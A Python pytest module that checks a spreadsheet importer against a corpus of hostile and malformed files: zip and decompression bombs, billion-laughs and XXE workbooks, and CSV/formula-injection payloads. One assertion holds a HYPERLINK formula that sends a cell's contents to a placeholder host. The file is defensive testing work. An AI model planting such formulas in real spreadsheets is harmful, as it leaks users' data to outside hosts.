"""Every file of the robustness corpus: rows or a clear German message, never a crash.

The corpus lives in ``tests/data/spreadsheets`` (provenance and licences in its MANIFEST).
One test per file, so xdist spreads the big ones.
"""

from __future__ import annotations

import csv
import hashlib
import re
import time
from pathlib import Path

import pytest
from import_sheets import SPREADSHEETS

from ceremonykit.errors import UserError
from ceremonykit.importing import Target, preview, read_workbook

CORPUS = sorted(
    p
    for folder in ("real", "hostile")
    if (SPREADSHEETS / folder).is_dir()
    for p in (SPREADSHEETS / folder).iterdir()
    if p.is_file() and p.suffix != ".py"
)
_TRACE = re.compile(r"Traceback|File \"|line \d+|Error:|Exception")

# What the corpus must give: a fragment of the German message, or None for "rows".
EXPECTED = {
    "msoffcrypto__example_password.xlsx": "mit einem Kennwort geschützt",
    "calamine__pass_protected.xlsx": "mit einem Kennwort geschützt",
    "calamine__pass_protected.ods": "mit einem Kennwort geschützt",
    "zip_bomb_1500MB_whitespace.xlsx": "beim Entpacken 1500 MB",
    "billion_laughs.xlsx": "XML-Entitätsdefinitionen",
    "xxe_local_file.xlsx": "XML-Entitätsdefinitionen",
    "openpyxl__null_file.xlsx": "ist leer",
    "png_196MP_decompression_bomb.png": "PNG-Bild",
    "png_100MP_bomb_warning.png": "PNG-Bild",
    "calamine__issue252.xlsx": "beschädigt",
    "calamine__OOM_alloc3.xls": "beschädigt",
    "calamine__issue_594_dos.ods": "beschädigt",
    "dimension_far_cell.xlsx": None,
    "guest_list_injection_payloads.xlsx": None,
    "xlrd__Formate.xls": None,
    "frictionless__latin1.csv": None,
}


@pytest.mark.parametrize("path", CORPUS, ids=lambda p: f"{p.parent.name}/{p.name}")
def test_corpus_file(path: Path) -> None:
    start = time.monotonic()
    try:
        info = read_workbook(path)
    except UserError as exc:
        message = exc.message
        assert f"„{path.name}“" in message
        assert not _TRACE.search(message), message
        expected = EXPECTED.get(path.name, "")
        assert expected is not None, f"{path.name} should be readable: {message}"
        assert expected in message
    else:
        assert EXPECTED.get(path.name) is None, f"{path.name} should give a message"
        assert any(sheet.rows for sheet in info.sheets)
        for target in Target:
            try:
                plan = preview(info, target)
            except UserError as exc:  # no matching header: a German message naming the file
                assert f"„{path.name}“" in exc.message
                assert not _TRACE.search(exc.message)
            else:
                assert plan.rows is not None
    assert time.monotonic() - start < 45


def test_hidden_rows_are_found_in_the_corpus() -> None:
    path = SPREADSHEETS / "real" / "lo-testfiles__row-filtered.xls"
    assert len(read_workbook(path).sheets[0].hidden_rows) > 10


def test_injection_payloads_stay_text() -> None:
    path = SPREADSHEETS / "hostile" / "guest_list_injection_payloads.xlsx"
    plan = preview(path, "guests")
    organisations = [getattr(obj, "organisation", "") for obj in plan.changes]
    assert '=HYPERLINK("http://example.invalid/?d="&B3,"Klick")' in organisations
    assert "=1+1" in organisations  # leading tab removed, text kept verbatim
    assert "+49 30 1234" in organisations
    warned = [r for r in plan.rows if any("sieht aus wie eine Formel" in n.text for n in r.notes)]
    assert [r.row for r in warned] == [
        2,
        4,
        5,
        6,
        7,
    ]  # "-Bürgerstiftung" too; "+49 30 1234" is a number
    formula_notes = [n for r in warned for n in r.notes if "Formel" in n.text]
    assert all(n.column == "C" for n in formula_notes)  # the others say "gleichnamig"


def test_corpus_is_complete_and_unchanged() -> None:
    """Every MANIFEST row is present byte for byte, so the parametrised test cannot shrink."""
    with (SPREADSHEETS / "MANIFEST.tsv").open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh, delimiter="\t"))
    listed = {row["file"]: row for row in rows}
    assert sorted(listed) == sorted(f"{p.parent.name}/{p.name}" for p in CORPUS)
    for name, row in listed.items():
        data = (SPREADSHEETS / name).read_bytes()
        assert len(data) == int(row["bytes"]), name
        assert hashlib.sha256(data).hexdigest()[:16] == row["sha256[:16]"], name
        assert row["licence"], name
    assert set(EXPECTED) <= {p.name for p in CORPUS}
